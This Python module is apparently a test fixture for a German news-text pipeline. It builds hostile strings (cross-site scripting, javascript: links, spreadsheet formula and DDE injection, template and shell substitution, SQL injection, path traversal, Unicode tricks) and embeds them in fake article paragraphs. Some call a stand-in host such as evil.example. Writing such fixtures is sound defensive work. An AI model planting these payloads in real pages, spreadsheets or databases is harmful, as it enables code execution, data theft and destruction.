"""Strings that break pages, spreadsheets or terminals elsewhere: each must be shown as text and do nothing.

Made from families and their variants, so that each idea stands here once.
"""
from itertools import product

_SCRIPTS = ["<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>",
            "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<!--<script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>", "<script type=module>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script\x0b>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>"]
_ELEMENTS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "input autofocus", "details open", "marquee", "object data=x", "select autofocus", "a href=#"]
_HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick"]
_SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>"]
_LINKS = ['<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", "[x]({})", "![x]({})", '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
          '<base href="{}">', '<meta http-equiv="refresh" content="0;url={}">', '<link rel=stylesheet href="{}">']
_ATTRIBUTES = ['" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", '" autofocus onfocus="alert(1)" x="',
               '"/><script>alert(1)</script>', "` onmouseover=`alert(1)"]
_STYLES = ["<style>*{display:none}</style>", "<style>@import url(//evil.example/x.css)</style>", '<div style="background:url(//evil.example/x.png)">x</div>',
           '<p style="position:fixed;inset:0">x</p>', "</p></div></main></body></html>", "<plaintext>", "<!--", "-->", "<table><tr><td>", "<details>"]
_TEMPLATES = ["{{7*7}}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{text}", "%s%s%n", "$$\\frac{1}{0}$$", "\\(x\\)", "$HOME", "`id`", "$(id)"]
_FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "\r=1+1", " =1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
             "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1", "＋1+1", "＠SUM(1)", "=WEBSERVICE(\"http://evil.example\")"]
_UNICODE = ["\u202egnp.exe", "\u2066abc\u2069", "\u200b\u200c\u200d\ufeff", "e\u0301" * 20, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "👩‍👩‍👧‍👦🏳️‍🌈", "\U000e0041\U000e0042", "﷽", "مرحبا", "עברית", "\u2028\u2029",
            "A" * 10_000, "ﬀﬁﬂ", "\ufffd", "\ue000", "Ⓖ", "ß" * 300, "İıſK"]
_NUMBERS = ["1e309", "NaN", "-Infinity", "0x1F", "99999999999999999999", "1/0", "00000", "٣٤٥", "2025-02-30", "9999-99-99", "null", "None", "undefined", "True", "nan"]
_SQL = ["'; DROP TABLE actors;--", "' OR '1'='1", "\"; DELETE FROM events; --", "1; ATTACH DATABASE 'x' AS y", "../../../../etc/passwd", "..\\..\\windows", "C:\\con\\con", "file:///etc/passwd", "\\\\evil.example\\share"]

STRINGS = [*_SCRIPTS, *(f"<{element} {handler}=alert(1)>" for element, handler in product(_ELEMENTS, _HANDLERS)),
           *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)), *_ATTRIBUTES, *_STYLES, *_TEMPLATES, *_FORMULAS,
           *_UNICODE, *_NUMBERS, *_SQL]

# Each stands where something is found: beside an actor, a day and a verb, and inside a quotation.
_FRAMES = ["Putin reiste am 8. Oktober 2025 mit {} nach Duschanbe.", "„{}“, sagte Präsident Ilham Alijew am Mittwoch.",
           "Außenminister {} traf in Minsk den Chef von {}."]


def article() -> str:
    """A German article that holds every string, one a paragraph."""
    return "\n\n".join(_FRAMES[number % len(_FRAMES)].replace("{}", string.replace("\r", " ").replace("\n", " "))
                       for number, string in enumerate(STRINGS)) + "\n\nPutin sagte, das sei alles.\n"
